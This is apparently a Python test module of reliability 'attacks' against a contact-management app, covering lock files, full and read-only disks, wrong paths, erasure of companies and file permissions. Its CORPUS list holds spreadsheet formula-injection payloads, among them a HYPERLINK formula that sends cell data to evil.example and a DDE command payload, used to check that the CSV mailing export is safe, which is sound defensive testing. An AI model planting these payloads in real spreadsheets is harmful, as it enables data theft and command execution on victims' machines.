"""Issue 15's attacks, continued: locks and messages, failures underneath, wrong paths, a
sole trader's company, the mailing list in Dutch Excel, file modes (R30-R35)."""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import logging
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

from tests.reliability.attacks import Attack, _cli, _database, _env, _sha

CORPUS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-10",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    "'=1+2",
    '"=1+2"',
    "a;=1+2",
    "a,=1+2",
    "=",
    "==",
    "+",
    "-",
    "#N/A",
    "x;y;z",
    'a"b;c',
]


@contextlib.contextmanager
def _mounted(folder: Path, options: str):
    """A small tmpfs (root only); yields False when it cannot be mounted."""
    folder.mkdir(exist_ok=True)
    ok = (
        os.geteuid() == 0
        and subprocess.run(
            ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True
        ).returncode
        == 0
    )
    try:
        yield ok
    finally:
        if ok:
            subprocess.run(["umount", "-l", str(folder)], check=False)


def _fill(folder: Path) -> None:
    fd = os.open(folder / "filler", os.O_WRONLY | os.O_CREAT)
    with contextlib.suppress(OSError):
        while os.write(fd, b"\0" * 65536):
            pass
    os.close(fd)


def locks_and_messages(folder: Path) -> Attack:
    """R30: an empty or garbled lock file, a symlink past a held lock, a read-only folder
    and a full disk: the right message (never "open in SOOSR Desk" when it is not)."""
    from soosr_desk.ui.lock import InstanceLock

    a = Attack("R30", "lock files, symlinks, read-only and full disks")
    db = _database(folder)
    for content in (b"", b"garbage", b"\x00\xff\n\n\n", b"0\n\n\n"):
        Path(f"{db}.lock").write_bytes(content)
        code, err = _cli("check", "--db", str(db))
        a.check(code in (0, 1), f"lock file {content!r}: {err.strip()[:60]}")
    link = folder / "alias.db"
    link.symlink_to(db)
    lock = InstanceLock(db)
    lock.acquire()
    code, err = _cli("demo", "--db", str(link), "--contacts", "1")
    lock.release()
    a.check(code == 2 and "open in SOOSR Desk" in err, "symlink past the lock")
    for name, options, words in (
        ("ro", "size=16m", "cannot write in the folder"),
        ("full", "size=16m", "full"),
    ):
        with _mounted(folder / name, options) as ok:
            if not ok:
                continue
            shutil.copyfile(db, folder / name / "desk.db")
            if name == "ro":
                subprocess.run(["mount", "-o", "remount,ro", str(folder / name)], check=True)
            else:
                _fill(folder / name)
            code, err = _cli("check", "--db", str(folder / name / "desk.db"))
            a.check(code == 2 and words in err and "open in SOOSR" not in err, f"{name}: {err}")
    return a


def failures_underneath(folder: Path) -> Attack:
    """R31: full and read-only disks, a folder as --out, `--out .`, a missing folder, demo
    onto a full disk, a closed pipe: one line, exit 2, no partial file, no traceback."""
    from soosr_desk.exports import safe_text

    a = Attack("R31", "failures underneath a command")
    db = _database(folder)
    out = folder / "out"
    out.mkdir()
    writers = [["export", "all", "--out"], ["mailing", "--out"]]

    def one_line(code: int, err: str, what: str) -> None:
        """Exit 2, no traceback; the last line is the message (progress lines before it)."""
        last = (err.strip().splitlines() or [""])[-1]
        a.check(
            code == 2 and "Traceback" not in err and "Exception" not in err and last != "",
            f"{what}: exit {code} {err.strip()[-120:]}",
        )

    for cmd in writers:
        one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], str(out)), f"{cmd[0]} into a folder")
        one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], "."), f"{cmd[0]} --out .")
        one_line(
            *_cli(cmd[0], "--db", str(db), *cmd[1:], str(out / "gone" / "x")),
            f"{cmd[0]} missing folder",
        )
    real_fsync = safe_text.os.fsync

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    safe_text.os.fsync = full
    try:
        for cmd in writers:
            one_line(
                *_cli(cmd[0], "--db", str(db), *cmd[1:], str(out / "f.xlsx")), f"{cmd[0]} ENOSPC"
            )
        one_line(
            *_cli("statement", "--db", str(db), "--out", str(out), "--publish"), "statement ENOSPC"
        )
    finally:
        safe_text.os.fsync = real_fsync
    a.check(list(out.iterdir()) == [], f"partial files: {[p.name for p in out.iterdir()]}")
    for name, options in (("full", "size=512k"), ("ro", "size=1m,ro")):
        with _mounted(folder / name, options) as ok:
            if not ok:
                continue
            if name == "full":
                code, err = _cli(
                    "demo", "--create", "--db", str(folder / name / "d.db"), "--contacts", "3000"
                )
                one_line(code, err, "demo onto a full disk")
                a.check(not (folder / name / "d.db").exists(), "half a demo database left")
                _fill(folder / name)
            for cmd in writers:
                one_line(
                    *_cli(cmd[0], "--db", str(db), *cmd[1:], str(folder / name / "x.xlsx")),
                    f"{cmd[0]} on a {name} disk",
                )
            one_line(
                *_cli("letters", "--db", str(db), "--out", str(folder / name / "l")),
                f"letters on a {name} disk",
            )
    proc = subprocess.Popen(
        [sys.executable, "-m", "soosr_desk", "check", "--db", str(db)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=_env(),
    )
    proc.stdout.close()
    err = proc.stderr.read().decode()
    one_line(proc.wait(timeout=60), err, "check | head")
    return a


def wrong_paths(folder: Path) -> Attack:
    """R32: commands on a missing file, on another program's empty SQLite file, and demo on
    a real database: nothing made, nothing changed."""
    a = Attack("R32", "wrong paths: missing, foreign, real data")
    for cmd in (
        ["check"],
        ["due"],
        ["export", "register", "--out", str(folder / "x.xlsx")],
        ["mailing", "--out", str(folder / "m.csv")],
        ["statement", "--out", str(folder)],
        ["erase", "1", "--yes"],
        ["demo"],
    ):
        path = folder / f"typo-{cmd[0]}.db"
        code, _ = _cli(cmd[0], "--db", str(path), *cmd[1:])
        a.check(code == 2 and not path.exists(), f"{cmd[0]} on a missing file")
    foreign = folder / "other.db"
    conn = sqlite3.connect(foreign)
    conn.execute("PRAGMA user_version = 3")
    conn.commit()
    conn.close()
    before = _sha(foreign)
    for cmd in (["check"], ["demo", "--create"], ["backup"], ["due"]):
        code, _ = _cli(cmd[0], "--db", str(foreign), *cmd[1:])
        a.check(code == 2 and _sha(foreign) == before, f"{cmd[0]} on a foreign file")
    real = _database(folder, "real.db")
    conn = sqlite3.connect(real)
    conn.execute("DELETE FROM setting WHERE key='demo_data'")
    conn.commit()
    conn.close()
    before = _sha(real)
    code, _ = _cli("demo", "--db", str(real), "--contacts", "5")
    a.check(code == 2 and _sha(real) == before, "demo on a real database")
    return a


def sole_traders(folder: Path, people: int = 20) -> Attack:
    """R33: contacts with a company of their own are erased; the company goes with them,
    a company another contact uses stays."""
    from soosr_desk.services import contacts as cs
    from soosr_desk.services import erasure
    from soosr_desk.store import models as m
    from soosr_desk.store.opening import close_database, open_database

    a = Attack("R33", "sole traders' companies after the erasure")
    db = open_database(folder / "sole.db")
    ids = [
        cs.save_contact(
            cs.ContactData(
                first_name="Zyx", last_name=f"Eenmans{i}", company_name=f"Zyxbolt Holding {i}"
            )
        ).id
        for i in range(people)
    ]
    shared = [
        cs.save_contact(
            cs.ContactData(first_name="Q", last_name=f"Gedeeld{i}", company_name="Gedeelde BV")
        ).id
        for i in range(2)
    ]
    erasure.erase_many(ids + shared[:1], reason="manual")
    for i in range(people):
        a.check(
            not m.Company.select().where(m.Company.name == f"Zyxbolt Holding {i}").exists()
            and not cs.company_names(f"Zyxbolt Holding {i}"),
            f"company {i} left",
        )
    a.check(m.Company.select().where(m.Company.name == "Gedeelde BV").exists(), "shared gone")
    close_database(db)
    m.database_proxy.initialize(None)
    return a


def mailing_in_dutch_excel(folder: Path) -> Attack:
    """R34: the §4.1 formula payloads as names in the mailing CSV: every cell quoted, and
    read with `;` (Dutch Excel) no cell starts a formula."""
    from soosr_desk.services import contacts as cs
    from soosr_desk.store import models as m
    from soosr_desk.store.opening import close_database, open_database

    a = Attack("R34", "formula payloads in the mailing CSV (read with ;)")
    path = folder / "mail.db"
    db = open_database(path)
    for i, payload in enumerate(CORPUS):
        cs.save_contact(
            cs.ContactData(
                first_name=payload,
                last_name=f"N{i}",
                email=f"p{i}@example.nl",
                relation="customer_contact",
            )
        )
    close_database(db)
    m.database_proxy.initialize(None)
    out = folder / "m.csv"
    code, err = _cli("mailing", "--db", str(path), "--out", str(out))
    text = out.read_text("utf-8-sig") if code == 0 else ""
    lines = text.splitlines()[1:]
    for line in lines:
        cells = next(csv.reader(io.StringIO(line), delimiter=";"))
        quoted = line.startswith('"') and line.endswith('"')
        a.check(
            quoted and not any(c.startswith(("=", "+", "-", "@")) for c in cells),
            f"line {line[:40]}",
        )
    a.check(len(lines) == len(CORPUS), f"{len(lines)} of {len(CORPUS)} rows ({err.strip()})")
    return a


def file_modes(folder: Path) -> Attack:
    """R35: database, -wal, -shm, log, settings, anchor, backups, before-restore copy,
    temp folder: owner only."""
    from soosr_desk.services import audit, backups
    from soosr_desk.store.location import data_dir

    a = Attack("R35", "file modes (owner only)")
    if os.name != "posix":
        return a
    old = os.umask(0o022)
    try:
        db = _database(folder, "modes.db")
        _cli("backup", "--db", str(db))
        backup = backups.list_backups(db)[0].path
        _cli("backup", "--db", str(db), "--restore", str(backup), "--yes")
        from soosr_desk.store import models as m
        from soosr_desk.store.opening import close_database, open_database

        opened = open_database(db)
        m.Setting.insert(key="probe", value="1").on_conflict_replace().execute()
        for suffix in ("-wal", "-shm"):
            p = Path(f"{db}{suffix}")
            a.check(p.exists() and p.stat().st_mode & 0o077 == 0, f"{p.name}")
        close_database(opened)
        m.database_proxy.initialize(None)
        logs = [
            Path(h.baseFilename)
            for h in logging.getLogger().handlers
            if isinstance(h, logging.FileHandler) and getattr(h, "_soosr", False)
        ]
        files = [
            db,
            audit.anchor_path(db),
            *logs,
            backup,
            *folder.glob("modes.db.before-restore-*"),
        ]
        for p in files:
            mode = oct(p.stat().st_mode) if p.exists() else "missing"
            a.check(p.exists() and p.stat().st_mode & 0o077 == 0, f"{p.name} {mode}")
        tmp = data_dir() / "tmp"
        a.check(tmp.is_dir() and tmp.stat().st_mode & 0o077 == 0, "temp folder")
    finally:
        os.umask(old)
    return a
